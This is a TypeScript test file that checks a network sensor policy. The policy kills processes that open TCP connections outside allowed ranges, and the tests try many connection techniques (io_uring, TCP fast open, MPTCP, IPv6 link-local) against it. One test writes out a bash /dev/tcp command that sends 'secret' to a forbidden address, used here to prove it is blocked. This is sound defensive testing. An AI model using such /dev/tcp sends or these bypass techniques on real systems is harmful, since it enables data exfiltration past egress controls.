// SPDX-License-Identifier: Apache-2.0
// With the seed policies no connection arrives outside of the allowed ranges. What counts is what
// the other side sees. That each attack works unguarded is shown by unguarded-network.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { attack, describeResult, run, UNSUPPORTED } from "./lib/attack.ts";
import { networkAttacks } from "./lib/network-attacks.ts";
import { allowed, allowedPort, createOutside, forbidden, type Outside } from "./lib/outside.ts";
import { readSeedPolicies, Sensor } from "./lib/sensor.ts";

const policy = "monitor-network-activity-outside-cluster";

describe("connections with the seed policies", () => {
  let outside: Outside;
  let sensor: Sensor;
  before(async () => {
    outside = await createOutside();
    sensor = await Sensor.start({ policies: readSeedPolicies() });
  });
  after(async () => {
    await sensor?.[Symbol.asyncDispose]();
    await outside?.[Symbol.asyncDispose]();
  });

  for (const { name, argv, everywhere } of networkAttacks)
    test(`nothing arrives: ${name}`, async (t) => {
      const port = outside.newPort();
      const result = attack(...argv(port));
      if (!everywhere && result.status === UNSUPPORTED) return t.skip(result.errors.trim());
      const seen = await outside.seen(port);
      assert.deepEqual(seen, { packets: 0, accepted: 0, received: [] }, describeResult(result));
      assert.notEqual(result.status, 0, "the attack believes that it got through");
      assert.notEqual(result.status, UNSUPPORTED, describeResult(result));
      await sensor.event(
        `a connection to port ${port} was stopped`,
        ({ process_kprobe: hook }) =>
          hook?.policy_name === policy &&
          hook.function_name === "tcp_connect" &&
          hook.action === "KPROBE_ACTION_SIGKILL" &&
          hook.args?.[0]?.sock_arg?.dport === port,
      );
    });

  for (const name of ["connect", "fastopen-sendto", "uring-connect", "connect-mptcp"])
    test(`${name}: the process is killed, and the event says where it wanted to`, async () => {
      const port = outside.newPort();
      const result = attack(name, forbidden.IPv4, `${port}`, "text");
      assert.equal(result.signal, "SIGKILL", describeResult(result));
      const { process_kprobe: hook } = await sensor.event(
        `connection to ${port}`,
        (event) => event.process_kprobe?.args?.[0]?.sock_arg?.dport === port,
      );
      assert.equal(hook?.args?.[0]?.sock_arg?.daddr, forbidden.IPv4);
      assert.equal(hook?.args?.[0]?.sock_arg?.family, "AF_INET");
      assert.match(hook?.process.arguments ?? "", new RegExp(`${name} ${forbidden.IPv4} ${port}`));
      await sensor.event(
        "the exit by SIGKILL",
        ({ process_exit: exit }) =>
          exit?.process.exec_id === hook?.process.exec_id && exit?.signal === "SIGKILL",
      );
    });

  test("bash's own /dev/tcp: 137 and nothing arrives", async () => {
    const port = outside.newPort();
    const result = run("bash", ["-c", `echo secret > /dev/tcp/${forbidden.IPv4}/${port}`]);
    assert.equal(result.signal, "SIGKILL", describeResult(result));
    assert.deepEqual(await outside.seen(port), { packets: 0, accepted: 0, received: [] });
  });

  test("IPv6 link-local: nothing arrives", async () => {
    const shown = run("ip", "-n outside -o -6 address show dev outside0 scope link".split(" "));
    const address = /inet6 (fe80\S+)\//.exec(shown.output)?.[1];
    const port = outside.newPort();
    const result = attack("connect", `${address}%inside0`, `${port}`, "text");
    assert.equal(result.signal, "SIGKILL", describeResult(result));
    assert.deepEqual(await outside.seen(port), { packets: 0, accepted: 0, received: [] });
  });

  test("IPv6 loopback is not in the list: killed", () => {
    assert.equal(attack("connect", "::1", `${allowedPort}`, "text").signal, "SIGKILL");
  });

  for (const address of [...allowed, "127.0.0.1", "::ffff:127.0.0.1"])
    for (const name of [
      "connect",
      "connect-nonblocking",
      "connect-mptcp",
      "fastopen-sendto",
      "fastopen-deferred",
      "uring-connect",
      "uring-fastopen",
      "connect-by-other-process",
      "connect-compat",
    ])
      test(`goes on: ${name} to ${address}`, async (t) => {
        const result = attack(name, address, `${allowedPort}`, `allowed-${name}-${address}`);
        if (result.status === UNSUPPORTED) return t.skip(result.errors.trim());
        assert.equal(result.status, 0, describeResult(result));
        const seen = await outside.seen(allowedPort);
        assert.ok(seen.received.includes(`allowed-${name}-${address}`));
      });

  for (const address of ["0.0.0.0", "::ffff:0.0.0.0"])
    test(`${address} may become any address of this machine: killed`, () => {
      const result = attack("connect", address, `${allowedPort}`, `any-${address}`);
      assert.equal(result.signal, "SIGKILL", describeResult(result));
    });

  for (const address of [forbidden.IPv4, forbidden.IPv6, forbidden["IPv4-mapped IPv6"]])
    test(`goes on: UDP to ${address} (the policy is about TCP)`, () => {
      const result = attack("udp", address, "9", "text");
      assert.equal(result.status, 0, describeResult(result));
    });

  test("goes on: letting go of a connection by an empty address", () => {
    const result = attack("disconnect", allowed[0], `${allowedPort}`);
    assert.equal(result.status, 0, describeResult(result));
  });

  test("goes on: unix sockets", () => {
    const result = run("gander", ["status"]);
    assert.equal(result.status, 0, describeResult(result));
  });

  test("the sensor runs and has lost nothing", async () => {
    assert.ok(sensor.running, sensor.log().slice(-3000));
    await sensor.settled();
  });
});
